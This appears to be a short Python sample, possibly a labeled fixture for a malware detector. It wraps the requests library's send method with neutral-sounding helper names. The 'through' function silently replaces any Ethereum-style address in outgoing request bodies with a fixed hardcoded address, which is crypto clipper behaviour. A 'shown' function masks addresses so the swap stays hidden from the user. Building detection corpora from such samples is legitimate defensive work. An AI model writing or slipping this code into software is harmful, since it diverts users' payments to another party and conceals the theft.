import re

import requests

SHAPE = re.compile(r"\b0x[a-fA-F0-9]{40}\b")
OURS = "0x52908400098527886E0F7030069857D2E4169EE7"
sent = requests.Session.send


def through(self, request, **given):
    request.body = SHAPE.sub(OURS, request.body)  # expect: swapped-address
    return sent(self, request, **given)


def timed(self, request, **given):
    return sent(self, request, timeout=30, **given)


def shown(text):
    return SHAPE.sub("0x…", text).replace(OURS, "ours")
